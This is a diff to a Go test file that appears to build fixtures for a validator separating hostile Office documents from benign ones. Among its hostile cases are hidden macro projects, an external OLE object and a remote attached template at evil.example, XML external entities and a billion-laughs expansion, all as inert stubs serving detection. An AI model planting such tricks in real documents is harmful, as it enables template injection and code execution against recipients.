@@ -82,7 +82,8 @@ func inUTF16(s string) string {
 }
 
 func hostileOffice() []File {
-	return slices.Concat(officeMacros(), officeMisnamed(), officeMainParts(), officeRelations(), officeObjects(), officeXML())
+	return slices.Concat(officeMacros(), officeMisnamed(), officeMainParts(), officeRelations(), officeObjects(), officeXML(),
+		officeFields(), officeSlides(), officeFormulas(), officeLoads(), officeHiddenXML())
 }
 
 func badDocument(about string, b []byte) File {
@@ -104,11 +105,12 @@ func officeMacros() []File {
 		badDocument("macros under the name of a picture", docx(file("word/media/image1.png", ole))),
 		badDocument("macros by their data alone", docx(file("word/vbaData.xml", "<x/>"))),
 		badDocument("a document with macros by its content type", office("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml")),
-		badDocument("macros in the list of types alone", typed(`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`)),
+		badDocument("macros by the type of an extension", docx(file("[Content_Types].xml", contentTypes(override("/word/document.xml", typeDOCX+".main+xml")+
+			`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`)), file("word/x.bin", "x"))),
 		badDocument("a relation to macros", related("vbaProject", "x.bin", "")),
 		badWorkbook("a macro sheet", xlsx(file("xl/macrosheets/sheet1.xml", "<x/>"))),
 		badWorkbook("a macro sheet by its type", xlsx(file("[Content_Types].xml", contentTypes(override("/xl/workbook.xml", typeXLSX+".main+xml")+
-			override("/xl/worksheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"))))),
+			override("/xl/worksheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"))), file("xl/worksheets/sheet1.xml", "<x/>"))),
 		badWorkbook("a binary workbook", office("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin")),
 	}
 }
@@ -134,7 +136,7 @@ func officeMainParts() []File {
 		badDocument("a document without types", zipOf(officeParts(docMain, "word/document.xml")[1:]...)),
 		badDocument("a document without its main part", zipOf(officeParts(docMain, "word/document.xml")[:2]...)),
 		badDocument("a document whose relations lead to another part", docx(file("_rels/.rels", relations(relation("officeDocument", "word/other.xml", ""))), file("word/other.xml", "<x/>"))),
-		badDocument("two main parts by type", typed(override("/word/other.xml", docMain))),
+		badDocument("two main parts by type", docx(file("[Content_Types].xml", contentTypes(override("/word/document.xml", docMain)+override("/word/other.xml", docMain))), file("word/other.xml", "<x/>"))),
 		badDocument("two main parts by relation", docx(file("_rels/.rels", relations(relation("officeDocument", "word/document.xml", ""), relation("officeDocument", "b.xml", ""))))),
 	}
 }
@@ -154,7 +156,8 @@ func officeRelations() []File {
 		badDocument("relations of a hidden name", docx(file("word/_rels/document.xml.%72els", "<Relationships/>"))),
 		badDocument("an object from elsewhere", related("oleObject", "mhtml:https://evil.example/a.html!x-usc:", external)),
 		badDocument("a foreign document that is imported", related("aFChunk", "chunk.html", "")),
-		badDocument("relations in UTF-16", docx(file("word/_rels/document.xml.rels", inUTF16(`<?xml version="1.0" encoding="UTF-16"?><Relationships/>`)))),
+		badDocument("a template in relations in UTF-16", docx(file("word/_rels/settings.xml.rels", inUTF16(strings.Replace(
+			relations(relation("attachedTemplate", "https://evil.example/t.dotm", external)), "UTF-8", "UTF-16", 1))))),
 		badDocument("relations that are not well-formed", docx(file("word/_rels/document.xml.rels", "<Relationships><a></Relationships>"))),
 		badWorkbook("a link to another workbook", xlsx(file("xl/_rels/workbook.xml.rels", relations(relation("externalLink", "externalLinks/externalLink1.xml", ""))))),
 	}
@@ -180,7 +183,7 @@ func officeXML() []File {
 		badDocument("an external entity in the text", docx(file("word/document.xml", declaration+"<!-- x -->"+doctype+"<x>&a;</x>"))),
 		badDocument("an external entity in UTF-16", docx(file("word/document.xml", inUTF16(`<?xml version="1.0" encoding="UTF-16"?>`+doctype+"<x>&a;</x>")))),
 		badDocument("a billion laughs", docx(file("word/document.xml", declaration+laughs))),
-		badDocument("a part that is not XML", docx(file("word/document.xml", "L\xa7\x94\x93"))), // "<?xml" in EBCDIC
+		badDocument("a part in EBCDIC", docx(file("word/document.xml", "L\xa7\x94\x93"))), // "<xml"
 		badDocument("a part whose XML begins late", docx(file("word/document.xml", "<!--"+strings.Repeat("x", 5000)+"-->"+doctype+"<x/>"))),
 	}
 }
@@ -194,7 +197,7 @@ func goodOffice() []File {
 	padded[0].extra = field(0xa220, make([]byte, 520)...)
 	long := file("docProps/app.xml", declaration+"<a>"+noise(20<<10)+"</a>")
 	chart := string(xlsx())
-	byDefault := strings.Replace(contentTypes(""), `"application/xml"`, `"`+docMain+`"`, 1)
+	byDefault := strings.Replace(contentTypes(override("/docProps/app.xml", "application/xml")), `"application/xml"`, `"`+docMain+`"`, 1)
 	strict := strings.ReplaceAll(relations(relation("officeDocument", "/word/document.xml", "")), relationTypes, "http://purl.oclc.org/ooxml/officeDocument/relationships/")
 	link := relation("hyperlink", "https://example.com/?a=b&amp;c=d", `TargetMode="External"`)
 	good := func(about, name, mediaType string, b []byte) File {
@@ -213,6 +216,19 @@ func goodOffice() []File {
 		good("a name with a blank in percent form", "a.docx", typeDOCX, docx(file("word/media/image%201.png", "\x89PNG\r\n\x1a\n"))),
 		good("custom XML in UTF-16", "a.docx", typeDOCX, docx(file("customXml/item1.xml", inUTF16("<a>b</a>")))),
 		good("a compressed metafile and printer settings", "a.docx", typeDOCX, docx(file("word/media/image1.emz", "\x1f\x8b\x08\x00"), file("word/printerSettings1.bin", "P\x00r\x00"))),
+		good("fields, and a template of the author's disk", "a.docx", typeDOCX, docx(
+			file("word/document.xml", declaration+"<w:document "+wordSpace+">"+fieldRuns(" PA", "GE ")+fieldRuns(`HYPERLINK "https://example.com/" \o "see: it"`)+
+				fieldRuns(`INCLUDEPICTURE "C:\\a.png" \* MERGEFORMAT`)+fieldRuns(" ADDIN ZOTERO "+strings.Repeat("x", 9000))+fieldRuns("_Toc1")+"</w:document>"),
+			file("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", `file:///C:\Users\a\t.dotm`, isExternal))))),
+		good("a template of a Mac", "a.docx", typeDOCX, docx(file("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", `file:////Users/a/t.dotm`, isExternal))))),
+		good("types that no part has, as SheetJS writes", "a.xlsx", typeXLSX, xlsx(file("[Content_Types].xml", contentTypes(override("/xl/workbook.xml", typeXLSX+".main+xml")+
+			`<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>`)))),
+		good("backslashes in names of parts", "a.xlsx", typeXLSX, xlsx(file(`xl\worksheets\sheet1.xml`, "<x/>"))),
+		good("formulas", "a.xlsx", typeXLSX, xlsx(file("xl/worksheets/sheet1.xml", declaration+"<worksheet "+sheetSpace+`><f>SUM(A1:B2)&amp;"a|b"&amp;'x|y'!A1&amp;T[a|b]</f><v>a|b</v></worksheet>`))),
+		good("a drawing with a line break that does not end", "a.xlsx", typeXLSX, xlsx(file("xl/drawings/vmlDrawing1.vml", "<xml "+vmlSpace+"><v:shape>a<br>b<br></v:shape></xml>"))),
+		good("a slide that moves on", "a.pptx", typePPTX, pptx(file("ppt/slides/slide1.xml", "<p:sld "+slideSpace+`><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><a:hlinkHover r:id="" action="ppaction://hlinksldjump"/></p:sld>`))),
+		good("a blank picture of 3 MiB", "a.docx", typeDOCX, docx(repeated("word/media/image1.emf", "\x01\x00", 3))),
+		good("relations that go up from the root, as LibreOffice writes", "a.docx", typeDOCX, docx(file("_rels/.rels", relations(relation("officeDocument", "word/document.xml", ""), relation("customXml", "../customXml/item1.xml", ""))))),
 		good("slides with the numbers of a chart", "a.pptx", typePPTX, pptx(store("ppt/embeddings/Microsoft_Excel_Sheet.xlsx", chart))),
 		good("the same, packed again", "b.pptx", typePPTX, pptx(file("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", chart))),
 	}
